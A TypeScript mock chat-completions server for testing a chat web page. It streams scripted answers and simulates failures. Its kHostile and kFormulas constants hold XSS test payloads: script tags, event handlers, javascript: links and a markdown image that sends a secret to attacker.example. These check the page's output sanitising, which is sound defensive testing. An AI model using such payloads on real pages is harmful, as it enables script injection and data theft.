// A stand-in for the Owlet server, for tests of the page alone: it speaks the same API and behaves as badly as asked. What
// it does depends on the last question; see `answerFor`.

import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import type { AddressInfo } from 'node:net';

export const kModel = 'owlet-mock';
const kContext = 1024;

export const kSecondModel = 'owlet-second';

export interface MockOptions {
  page?: boolean;        // serve the built page at /; without it the server is an API alone
  api?: boolean;         // without it the server is a static site: every path gives the page
  key?: string;          // asked for, where given
  port?: number;
  models?: object[];     // entries of /v1/models in place of the one
  answers?: string[];    // "answer 7" is answered with the eighth of these
  pace?: number;         // ms between their tokens
  burst?: number;        // so many of them come together
  context?: number;      // tokens
  runs?: object[];       // training runs, as GET /runs?name=… tells of each
}

interface Turn { role: string; content: string }
interface Body {
  model?: string;
  messages?: Turn[];
  stream?: boolean;
  stream_options?: { include_usage?: boolean };
  max_tokens?: number;
  stop?: string | string[];
  temperature?: unknown;
  continue_final_message?: boolean;
  logprobs?: boolean;
}

interface Script {
  thought?: string;
  text: string;
  pace: number;              // ms between tokens
  breakAfter?: number;       // tokens, then the connection is cut
  endless?: boolean;         // nothing comes after the tokens, until the listener leaves
}

export class MockServer {
  readonly bodies: Body[] = [];   // of every chat request, oldest first
  cancelled = 0;                  // answers whose listener left
  written = 0;                    // tokens of all answers
  private server: Server;

  private constructor(private readonly options: MockOptions) {
    this.server = createServer((request, response) => void this.handle(request, response));
  }

  static async start(options: MockOptions = {}): Promise<MockServer> {
    const mock = new MockServer({ page: true, api: true, ...options });
    await mock.listen(options.port ?? 0);
    return mock;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  get url(): string {
    return `http://127.0.0.1:${this.port}`;
  }

  // Goes away: open connections are cut, new ones refused. `back` returns to the same port.
  async gone(): Promise<() => Promise<void>> {
    const { port } = this;
    await this.stop();
    return async () => {
      this.server = createServer((request, response) => void this.handle(request, response));
      await this.listen(port);
    };
  }

  stop(): Promise<void> {
    return new Promise((resolve) => {
      this.server.close(() => resolve());
      this.server.closeAllConnections();
    });
  }

  private listen(port: number): Promise<void> {
    return new Promise((resolve, reject) => {
      this.server.once('error', reject);
      this.server.listen(port, '127.0.0.1', resolve);
    });
  }

  private async handle(request: IncomingMessage, response: ServerResponse): Promise<void> {
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Access-Control-Allow-Headers', 'authorization, content-type');
    if (request.method === 'OPTIONS') return void response.writeHead(204).end();
    const path = (request.url ?? '/').split('?', 1)[0];
    if (this.options.api && path === '/health') return json(response, 200, { status: 'ok' });
    if (this.options.api && path?.startsWith('/v1/')) {
      if (this.options.key && request.headers.authorization !== `Bearer ${this.options.key}`) {
        return fail(response, 401, 'Invalid API key. Send it as "Authorization: Bearer KEY".', 'invalid_api_key');
      }
      if (path === '/v1/models') return json(response, 200, { object: 'list', data: this.options.models ?? [model()] });
      if (path === '/v1/chat/completions') return this.chat(await read(request), response);
      return fail(response, 404, `There is no ${path} here.`, null);
    }
    if (this.options.api && path === '/runs') {
      const { runs } = this.options;
      if (!runs) return fail(response, 404, 'This server shows no training runs.', 'no_runs');
      const wanted = new URL(request.url!, 'http://mock').searchParams.get('name');
      return json(response, 200, wanted === null ? { runs } : runs.find((run) => (run as { name: string }).name === wanted) ?? {});
    }
    if (this.options.api && path === '/tokenize') {
      const { prompt } = JSON.parse(await read(request)) as { prompt: string };
      const pieces = tokensOf(prompt);
      return json(response, 200, { count: pieces.length, tokens: pieces.map((_, i) => i), token_strs: pieces });
    }
    if (this.options.page && (path === '/' || !this.options.api)) {
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      return void response.end(gunzipSync(readFileSync(new URL('../page.html.gz', import.meta.url))));
    }
    fail(response, 404, 'Not found.', null);
  }

  private async chat(raw: string, response: ServerResponse): Promise<void> {
    const body = JSON.parse(raw) as Body;
    this.bodies.push(body);
    if (typeof body.temperature === 'number' && body.temperature > 2) {
      return fail(response, 400, `temperature is ${body.temperature}, but must lie between 0 and 2.`, null);
    }
    await this.loaded(body.model, response);
    const turns = body.messages ?? [];
    const begun = body.continue_final_message ? turns[turns.length - 1]?.content ?? '' : null;
    const question = turns[turns.length - (begun === null ? 1 : 2)]?.content ?? '';
    const promptTokens = tokensOf(turns.map((t) => t.content).join(' ')).length;
    const context = this.options.context ?? kContext;
    if (promptTokens > context) {
      return fail(response, 400, `The prompt has ${promptTokens} tokens, but the context holds ${context}.`, 'context_length_exceeded');
    }
    if (/refuse/i.test(question)) return fail(response, 400, 'logit_bias is not something this model can do.', null);
    if (/crash/i.test(question)) return fail(response, 500, 'The engine met an error.', null);

    const numbered = /^answer (\d+)$/.exec(question);
    const script = numbered ? { text: this.options.answers?.[Number(numbered[1])] ?? '', pace: this.options.pace ?? 0 } : answerFor(question, turns, body.model ?? '');
    if (begun !== null) script.text = script.text.startsWith(begun) ? script.text.slice(begun.length) : ' And so it went on.';
    let tokens = tokensOf(script.text);
    let reason = 'stop';
    for (const stop of [body.stop ?? []].flat()) {
      const at = tokens.join('').indexOf(stop);
      if (at >= 0) tokens = tokensOf(tokens.join('').slice(0, at));
    }
    if (body.max_tokens && tokens.length > body.max_tokens) {
      tokens = tokens.slice(0, body.max_tokens);
      reason = 'length';
    }
    const thoughts = tokensOf(script.thought ?? '');
    const usage = { prompt_tokens: promptTokens, completion_tokens: tokens.length + thoughts.length, total_tokens: promptTokens + tokens.length + thoughts.length };
    if (!body.stream) {
      const message = { role: 'assistant', content: tokens.join(''), ...(script.thought ? { reasoning_content: script.thought } : {}) };
      return json(response, 200, { ...head('chat.completion'), choices: [{ index: 0, message, finish_reason: reason }], usage });
    }
    await this.stream(response, script, thoughts, tokens, reason, body.stream_options?.include_usage ? usage : null, body.logprobs ?? false);
  }

  // What a model is, changes while a test looks on.
  private async loaded(name: string | undefined, response: ServerResponse): Promise<void> {
    const asked = this.options.models?.find((m) => (m as { id: string }).id === name) as { status?: { value: string } } | undefined;
    while (asked?.status && asked.status.value !== 'loaded' && !response.destroyed) await new Promise((resolve) => setTimeout(resolve, 20));
  }

  private async stream(response: ServerResponse, script: Script, thoughts: string[], tokens: string[], reason: string, usage: object | null, logprobs: boolean): Promise<void> {
    let open = true;
    response.on('close', () => {
      if (!response.writableFinished) this.cancelled++;
      open = false;
    });
    response.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' });
    const began = Date.now();
    const write = (delta: { role?: string; content?: string; reasoning_content?: string }, finish_reason: string | null = null): void => {
      const scores = logprobs && delta.content ? { logprobs: { content: [scored(delta.content)] } } : {};
      response.write(`data: ${JSON.stringify({ ...head('chat.completion.chunk'), choices: [{ index: 0, delta, ...scores, finish_reason }] })}\n\n`);
    };
    write({ role: 'assistant', content: '' });
    const pieces = [...thoughts.map((t) => ({ reasoning_content: t })), ...tokens.map((t) => ({ content: t }))];
    for (const [i, piece] of pieces.entries()) {
      if (script.pace > 0 && i % (this.options.burst ?? 1) === 0) await new Promise((resolve) => setTimeout(resolve, script.pace));
      if (!open) return;
      if (i === script.breakAfter) return void response.destroy();
      write(piece);
      this.written++;
    }
    if (script.endless) return;
    write({}, reason);
    if (usage) {
      const ms = Date.now() - began;
      const timings = { prompt_ms: 20, predicted_ms: ms, predicted_per_second: (1000 * pieces.length) / Math.max(1, ms), prompt_per_second: 500 };
      response.write(`data: ${JSON.stringify({ ...head('chat.completion.chunk'), choices: [], usage, timings })}\n\n`);
    }
    response.end('data: [DONE]\n\n');
  }
}

// A probability, and two others that could have come.
function scored(token: string): object {
  const p = 0.05 + 0.9 * ((token.length % 6) / 5);
  const other = (text: string, share: number): object => ({ token: text, logprob: Math.log((1 - p) * share) });
  return { token, logprob: Math.log(p), top_logprobs: [{ token, logprob: Math.log(p) }, other(' Quito', 0.6), other(' <b>x</b>', 0.3)] };
}

function answerFor(question: string, turns: Turn[], model: string): Script {
  if (model === kSecondModel) return { text: 'The second model says so.', pace: 10 };
  if (/hostile/i.test(question)) return { text: kHostile, pace: 0 };
  if (/47 \+ 25|think/i.test(question)) {
    return { thought: '7 + 5 = 12, so I write 2 and carry 1. 4 + 2 + 1 = 7. Together that is 72.', text: '47 + 25 = **72**.', pace: /slowly/i.test(question) ? 120 : 20 };
  }
  if (/break off/i.test(question)) return { text: kStory, pace: 20, breakAfter: 12 };
  if (/formula/i.test(question)) return { text: kFormulas, pace: 5 };
  if (/endless/i.test(question)) return { text: kStory, pace: 5, endless: true };
  if (/slow|story/i.test(question)) return { text: kStory, pace: 60 };
  if (/long/i.test(question)) return { text: kLong, pace: 4 };
  if (/table|code/i.test(question)) return { text: kRich, pace: 12 };
  if (/count/i.test(question)) return { text: `I was sent ${turns.length} turns.`, pace: 5 };
  if (/capital of peru/i.test(question)) return { text: 'The capital of Peru is Lima.', pace: 20 };
  return { text: 'I do not know. I am a small model.', pace: 15 };
}

const kStory = 'Once a small owl could not sleep by day. So she asked the sun to wait a little. The sun smiled and waited. ' +
  'The owl closed one eye, and then the other. When the sun went down, she was the first one awake.';

const kRich = `Here are three elements:

| Element | Symbol | Number |
| --- | :-: | --: |
| Hydrogen | H | 1 |
| Helium | He | 2 |
| Lithium | Li | 3 |

And a function that *adds* two numbers:

\`\`\`python
def add(a, b):
    """Adds two numbers."""
    return a + b
\`\`\`

1. Call it with \`add(2, 3)\`.
2. It gives **5**.

> Small things, done well.

See [the notes](https://example.org/notes).
`;

const kFormulas = `The area is $A = \\pi r^2$, which costs $5 and $6.

$$
\\frac{a}{b} + \\sqrt{x^2}
$$

Also \\(e^{i\\pi} = -1\\), and \\href{javascript:alert(1)}{x} stays text, as does $\\href{javascript:alert(1)}{x}$.`;

const kLong = Array.from({ length: 26 }, (_, i) => `Paragraph ${i + 1}. An owl turns its head, listens, and waits; it hears a mouse under the snow. ` +
  'Then it opens its wings without a sound and glides down, and for a moment the whole field holds its breath.').join('\n\n');

const kHostile = `<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg> <style>body { display: none }</style>

![picture](https://attacker.example/log?secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>)

[click](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>) [vb](vbscript:x) [ok](https://example.org/)

<iframe src="https://attacker.example/"></iframe> <a href="javascript:alert(1)">x</a>

> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > deep

\`\`\`"><script>window.hacked = 6</script>
code
\`\`\`
`;

function tokensOf(text: string): string[] {
  return text.match(/\s*\S{1,6}|\s+$/g) ?? [];
}

export function model(id = kModel): object {
  return { id, object: 'model', created: 1760000000, owned_by: 'owlet', meta: { size_bytes: 19_400_000, n_params: 12_400_000, context_length: kContext } };
}

function head(object: string): object {
  return { id: 'chatcmpl-mock', object, created: 1760000000, model: kModel };
}

function json(response: ServerResponse, status: number, body: object): void {
  response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify(body));
}

function fail(response: ServerResponse, status: number, message: string, code: string | null): void {
  json(response, status, { error: { message, type: 'invalid_request_error', param: null, code } });
}

async function read(request: IncomingMessage): Promise<string> {
  let raw = '';
  for await (const chunk of request) raw += String(chunk);
  return raw;
}
